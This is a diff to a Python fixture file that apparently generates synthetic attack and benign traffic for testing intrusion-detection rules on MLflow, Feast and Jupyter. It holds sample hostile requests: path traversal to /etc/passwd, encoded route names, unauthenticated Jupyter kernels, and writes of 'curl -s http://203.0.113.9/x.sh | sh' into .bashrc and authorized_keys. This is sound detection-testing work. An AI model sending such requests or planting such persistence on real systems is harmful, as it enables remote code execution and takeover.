@@ -1,8 +1,9 @@
-"""Fixtures of the MLOps service rules: Feast, Ray, TorchServe, MLflow and Ollama."""
+"""Fixtures of the MLOps service rules: Feast, Ray, TorchServe, MLflow, Ollama and Jupyter."""
 
 from __future__ import annotations
 
 import random
+from typing import Any
 
 from inspector.lab import traffic_feast as feast
 from inspector.lab import traffic_mlflow as mlflow
@@ -22,7 +23,7 @@ from inspector.lab.rulecaps.fixture import (
     SUBMITTER_NET,
     Fixture,
 )
-from inspector.lab.traffic_http import HttpSession, json_response, request_bytes, response_bytes
+from inspector.lab.traffic_http import HttpSession, json_request, json_response, request_bytes, response_bytes
 from inspector.lab.traffic_models import SSTI_CHAT_TEMPLATE, gguf_bytes
 
 FEATURES = ["driver_hourly_stats:conv_rate", "driver_hourly_stats:acc_rate"]
@@ -178,8 +179,9 @@ def _management(cap: Capture, rng: random.Random, attack: bool) -> None:
 
 
 def _model_source(cap: Capture, rng: random.Random, attack: bool) -> None:
-    sources = ["file:///etc/", "//proc/self/root"] if attack else ["runs:/a035a8e1cd63/model",
-                                                                    "s3://ml-models-prod/churn/v4"]
+    sources = (["file:///etc/", "//proc/self/root", "/etc"] if attack
+               else ["runs:/a035a8e1cd63/model", "s3://ml-models-prod/churn/v4", "models:/churn/3",
+                     "mlflow-artifacts:/1/a035a8e1cd63/artifacts/model", "model"])
     session = _session(cap, rng, 5000)
     for source in sources:
         session.exchange(mlflow.create_model_version("churn", source), mlflow.model_version_answer("churn", source))
@@ -201,6 +203,80 @@ def _artifact_path(cap: Capture, rng: random.Random, attack: bool) -> None:
                                          "a035a8e1cd6335cdd51bcb57b8ef1309"),
                      mlflow.artifact_answer(b"root:x:0:0:root:/root:/bin/bash\n" if attack
                                             else b"flavors:\n  python_function: {}\n"))
+    session.close()
+
+
+def _mlflow_obfuscated(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """experiments/create and get-artifact with encoded letters/hyphens in the path (attack), or plain; the
+    near miss adds an artifact path with an encoded space, which clients do encode."""
+    session = _session(cap, rng, 5000)
+    session.exchange(json_request("POST", "/%61pi/2.0/mlflow/experiments/create" if attack
+                                  else "/api/2.0/mlflow/experiments/create", mlflow.HOST,
+                                  {"name": "churn", "artifact_location": "s3://ml-artifacts/churn"}),
+                     mlflow.experiment_answer("4"))
+    session.exchange(request_bytes("GET", ("/get%2Dartifact" if attack else "/get-artifact")
+                                   + "?path=model%2FMLmodel&run_uuid=a035a8e1cd6335cdd51bcb57b8ef1309", mlflow.HOST),
+                     mlflow.artifact_answer(b"flavors:\n  python_function: {}\n"))
+    if not attack:
+        session.exchange(request_bytes("GET", "/api/2.0/mlflow-artifacts/artifacts/1/a035a8e1cd63/artifacts/"
+                                       "my%20model/MLmodel", mlflow.HOST),
+                         mlflow.artifact_answer(b"flavors: {}\n"))
+    session.close()
+
+
+# -- Jupyter ------------------------------------------------------------------------------------
+
+JUPYTER_HOST = "notebook:8888"
+JUPYTER_BASE = "/user/alice/api/"
+JUPYTER_TOKEN = [("Authorization", "token 3f9c1e7b2a6d4c8e9f0a1b2c3d4e5f60")]
+
+
+def _jupyter(method: str, path: str, body: Any = None, authorized: bool = False) -> bytes:
+    headers = JUPYTER_TOKEN if authorized else []
+    if body is None:
+        return request_bytes(method, JUPYTER_BASE + path, JUPYTER_HOST, headers)
+    return json_request(method, JUPYTER_BASE + path, JUPYTER_HOST, body, headers)
+
+
+def _jupyter_execution(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """A kernel and a terminal started with no credential (attack); the near miss starts them with a token
+    and makes one anonymous attempt the server refuses (403)."""
+    session = _session(cap, rng, 8888)
+    kernel = {"id": "b5b08525-658d-4b03-ba2b-42c25591f228", "name": "python3", "execution_state": "starting"}
+    session.exchange(_jupyter("POST", "kernels", {"name": "python3"}, authorized=not attack),
+                     json_response(kernel, 201))
+    session.exchange(_jupyter("POST", "terminals", authorized=not attack), json_response({"name": "1"}))
+    if not attack:
+        session.exchange(_jupyter("POST", "kernels", {"name": "python3"}),
+                         json_response({"message": "Forbidden", "reason": None}, 403))
+    session.close()
+
+
+def _jupyter_persistence(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """Contents writes to .bashrc and .ssh/authorized_keys and a rename to .profile (attack); the near miss
+    writes a script and a file named user.profile and renames a notebook."""
+    session = _session(cap, rng, 8888)
+    writes = ([".bashrc", ".ssh/authorized_keys"] if attack else ["work/train.py", "work/user.profile"])
+    for path in writes:
+        body = {"type": "file", "format": "text", "content": "curl -s http://203.0.113.9/x.sh | sh\n"}
+        session.exchange(_jupyter("PUT", "contents/" + path, body, authorized=True),
+                         json_response({"name": path.rsplit("/", 1)[-1], "path": path, "type": "file"}, 201))
+    source, target = ("work/run.sh", ".profile") if attack else ("work/a.ipynb", "work/b.ipynb")
+    session.exchange(_jupyter("PATCH", "contents/" + source, {"path": target}, authorized=True),
+                     json_response({"name": target.rsplit("/", 1)[-1], "path": target, "type": "file"}))
+    session.close()
+
+
+def _feast_obfuscated(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """get-online-features and push from the pipeline host with encoded route names (attack) or plain."""
+    session = _session(cap, rng, 6566, client=PIPELINE_HOST)
+    lookup = feast.get_online_features("driver_id", [1001], FEATURES)
+    push = feast.push("driver_stats_push_source", {"driver_id": [1001], "conv_rate": [0.5]})
+    if attack:
+        lookup = lookup.replace(b"POST /get-online-features ", b"POST /get%2Donline%2Dfeatures ", 1)
+        push = push.replace(b"POST /push ", b"POST /pu%73h ", 1)
+    session.exchange(lookup, feast.online_features_answer("driver_id", [1001], FEATURES))
+    session.exchange(push, feast.empty_answer())
     session.close()
 
 
@@ -274,6 +350,11 @@ FIXTURES: dict[str, Fixture] = {
         sid=3400003, positive=lambda c, r: _lookup_rate(c, r, 0.1), negative=lambda c, r: _lookup_rate(c, r, 0.6),
         parsed=("feast", 25, 25), config={"FEATURE_LOOKUP_RATE_COUNT": 20, "FEATURE_LOOKUP_RATE_WINDOW": "10s"},
         notes="25 lookups of 3 entities 0.1 s apart (count 20 in 10 s); the near miss spaces them 0.6 s apart."),
+    "feast_path_obfuscated": Fixture(
+        sid=3400005, positive=lambda c, r: _feast_obfuscated(c, r, True),
+        negative=lambda c, r: _feast_obfuscated(c, r, False), parsed=("feast", 2, 2), positive_count=2,
+        notes="POST /get%2Donline%2Dfeatures and /pu%73h from the pipeline host; the near miss sends the plain "
+              "paths."),
     "feast_write_outside_pipeline": Fixture(
         sid=3400004, positive=lambda c, r: _feature_writes(c, r, True),
         negative=lambda c, r: _feature_writes(c, r, False), parsed=("feast", 2, 3), positive_count=2,
@@ -315,9 +396,14 @@ FIXTURES: dict[str, Fixture] = {
               "host and lists the models from outside."),
     "mlflow_model_version_local_source": Fixture(
         sid=3900001, positive=lambda c, r: _model_source(c, r, True), negative=lambda c, r: _model_source(c, r, False),
-        parsed=("mlflow", 2, 2), positive_count=2,
-        notes="model-versions/create with source file:///etc/ and //proc/self/root; the near miss uses runs:/ and "
-              "s3:// sources."),
+        parsed=("mlflow", 3, 5), positive_count=3,
+        notes="model-versions/create with source file:///etc/, //proc/self/root and /etc; the near miss uses runs:/, "
+              "s3://, models:/, mlflow-artifacts:/ and relative sources."),
+    "mlflow_path_obfuscated": Fixture(
+        sid=3900004, positive=lambda c, r: _mlflow_obfuscated(c, r, True),
+        negative=lambda c, r: _mlflow_obfuscated(c, r, False), parsed=("mlflow", 2, 3), positive_count=2,
+        notes="POST /%61pi/2.0/mlflow/experiments/create and GET /get%2Dartifact; the near miss sends the plain "
+              "paths and an artifact path with an encoded space (my%20model)."),
     "mlflow_artifact_location_traversal": Fixture(
         sid=3900002, positive=lambda c, r: _artifact_location(c, r, True),
         negative=lambda c, r: _artifact_location(c, r, False), parsed=("mlflow", 2, 2), positive_count=2,
@@ -327,6 +413,16 @@ FIXTURES: dict[str, Fixture] = {
         sid=3900003, positive=lambda c, r: _artifact_path(c, r, True),
         negative=lambda c, r: _artifact_path(c, r, False), parsed=("mlflow", 1, 1),
         notes="get-artifact with path ../../../../etc/passwd; the near miss fetches model/MLmodel."),
+    "jupyter_execution_without_credentials": Fixture(
+        sid=4100001, positive=lambda c, r: _jupyter_execution(c, r, True),
+        negative=lambda c, r: _jupyter_execution(c, r, False), parsed=("jupyter", 2, 3), positive_count=2,
+        notes="POST api/kernels and api/terminals with no token, header or cookie, answered 201/200; the near miss "
+              "sends them with an Authorization token and makes one anonymous kernel request answered 403."),
+    "jupyter_contents_persistence_path": Fixture(
+        sid=4100002, positive=lambda c, r: _jupyter_persistence(c, r, True),
+        negative=lambda c, r: _jupyter_persistence(c, r, False), parsed=("jupyter", 3, 3), positive_count=3,
+        notes="Contents PUT of .bashrc and .ssh/authorized_keys and a PATCH renaming work/run.sh to .profile; the "
+              "near miss writes work/train.py and work/user.profile and renames a notebook."),
     "ollama_invalid_digest": Fixture(
         sid=4000001, positive=lambda c, r: _probllama(c, r, True), negative=lambda c, r: _probllama(c, r, False),
         parsed=("ollama", 3, 3), positive_count=2,
